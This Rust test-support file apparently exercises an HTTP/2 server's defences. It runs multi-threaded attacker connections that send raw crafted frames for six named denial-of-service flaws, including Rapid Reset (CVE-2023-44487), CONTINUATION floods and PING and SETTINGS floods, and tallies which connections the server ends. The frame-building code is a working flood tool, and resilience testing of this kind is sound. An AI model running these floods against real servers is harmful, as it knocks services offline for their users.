//! HTTP/2 as raw frames, from clients that mean harm.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::support::client::CHAT;
use crate::support::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame,
};
use crate::tool::step_back;

/// An attacker that was shut out comes back after this.
const AGAIN: Duration = Duration::from_millis(200);
/// Frames in one write.
const BATCH: u32 = 32;
/// How long one connection is kept at it: nobody stops it who has not by then.
const LONG: Duration = Duration::from_secs(2);

/// What a connection is flooded with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the server is made to take back (CVE-2025-8671).
    MadeReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// A body of empty pieces (CVE-2019-9518).
    EmptyData,
    /// Each wants an acknowledgement (CVE-2019-9515).
    Settings,
    /// Each wants an answer (CVE-2019-9512).
    Ping,
}

/// What came of a flood.
#[derive(Clone, Copy, Debug, Default)]
pub struct Tally {
    pub connections: u64,
    pub frames: u64,
    /// Connections that the server ended, or said goodbye on.
    pub ended: u64,
    /// Connections that were still open after all that time.
    pub put_up_with: u64,
}

/// Attackers, each on a thread of its own, until told to stop.
pub struct Attackers {
    stop: Arc<AtomicBool>,
    tally: Arc<Mutex<Tally>>,
    threads: Vec<JoinHandle<()>>,
}

impl Attackers {
    pub fn start(address: SocketAddr, flood: Flood, number: usize) -> Self {
        let (stop, tally) = (Arc::new(AtomicBool::new(false)), Arc::default());
        let attack = |_| {
            let (stop, tally) = (Arc::clone(&stop), Arc::clone(&tally));
            std::thread::spawn(move || {
                step_back();
                while !stop.load(SeqCst) {
                    attack(address, flood, &stop, &tally);
                    std::thread::sleep(AGAIN);
                }
            })
        };
        let threads = (0..number).map(attack).collect();
        Self { stop, tally, threads }
    }

    pub fn stop(mut self) -> Tally {
        self.stop.store(true, SeqCst);
        self.threads.drain(..).for_each(|thread| thread.join().unwrap());
        *self.tally.lock().unwrap()
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        self.stop.store(true, SeqCst);
    }
}

/// One connection, flooded until the server ends it, or for a long time.
fn attack(address: SocketAddr, flood: Flood, stop: &AtomicBool, tally: &Mutex<Tally>) {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_nodelay(true).unwrap();
    let mut sent = 0;
    let mut next = 1;
    let begun = Instant::now();
    let _greeted = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
    stream.set_nonblocking(true).unwrap();
    let mut incoming = Incoming::default();
    let mut outgoing = Vec::new();
    let ended = loop {
        if outgoing.is_empty() {
            (0..BATCH).for_each(|_| outgoing.extend(volley(flood, &mut next)));
            sent += u64::from(BATCH);
        }
        match push(&mut stream, &mut outgoing).and_then(|()| incoming.take(&mut stream)) {
            Ok(goodbye) if !goodbye => {}
            _ => break true,
        }
        if begun.elapsed() > LONG || stop.load(SeqCst) {
            break false;
        }
    };
    let mut tally = tally.lock().unwrap();
    tally.connections += 1;
    tally.frames += sent;
    if ended {
        tally.ended += 1;
    } else if begun.elapsed() > LONG {
        tally.put_up_with += 1;
    }
}

/// Writes what goes without waiting; when nothing does, waits a moment.
fn push(stream: &mut TcpStream, outgoing: &mut Vec<u8>) -> io::Result<()> {
    match stream.write(outgoing) {
        Ok(written) => {
            outgoing.drain(..written);
            Ok(())
        }
        Err(error) if error.kind() == ErrorKind::WouldBlock => {
            std::thread::sleep(Duration::from_millis(1));
            Ok(())
        }
        Err(error) => Err(error),
    }
}

/// What the server says: only whether it says goodbye is of interest.
#[derive(Default)]
struct Incoming(Vec<u8>);

impl Incoming {
    /// Whether the connection ends, by GOAWAY or without a word.
    fn take(&mut self, stream: &mut TcpStream) -> io::Result<bool> {
        let mut bytes = [0; 16 << 10];
        match stream.read(&mut bytes) {
            Ok(0) => return Ok(true),
            Ok(read) => self.0.extend_from_slice(&bytes[..read]),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
        while let Some(head) = self.0.get(..9) {
            let length =
                usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            if head[3] == GOAWAY {
                return Ok(true);
            }
            if self.0.len() < 9 + length {
                break;
            }
            self.0.drain(..9 + length);
        }
        Ok(false)
    }
}

/// The frames of one blow. `next`: the next stream; 1 while nothing was begun.
fn volley(flood: Flood, next: &mut u32) -> Vec<u8> {
    let begins = *next == 1;
    let stream = *next;
    match flood {
        Flood::RapidReset => {
            *next += 2;
            let cancel = 8_u32.to_be_bytes();
            [request(stream, END_HEADERS | END_STREAM), frame(RST_STREAM, 0, stream, &cancel)]
                .concat()
        }
        Flood::MadeReset => {
            *next += 2;
            // An increment of nothing is a mistake that costs the stream (RFC 9113 §6.9).
            let nothing = 0_u32.to_be_bytes();
            [request(stream, END_HEADERS), frame(WINDOW_UPDATE, 0, stream, &nothing)].concat()
        }
        Flood::Continuation if begins => {
            *next += 2;
            request(stream, 0)
        }
        // A field that is not indexed: `x: x`.
        Flood::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'x']),
        Flood::EmptyData if begins => {
            *next += 2;
            request(stream, END_HEADERS)
        }
        Flood::EmptyData => frame(DATA, 0, 1, &[]),
        Flood::Settings => frame(SETTINGS, 0, 0, &[]),
        Flood::Ping => frame(PING, 0, 0, &[7; 8]),
    }
}

/// The head of a chat request, in HPACK without any table.
fn request(stream: u32, flags: u8) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` are in the static table; `:authority` is 1, `:path` is 4.
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(0x01, "x"), (0x04, CHAT)] {
        block.extend([name, u8::try_from(value.len()).unwrap()]);
        block.extend(value.as_bytes());
    }
    frame(HEADERS, flags, stream, &block)
}
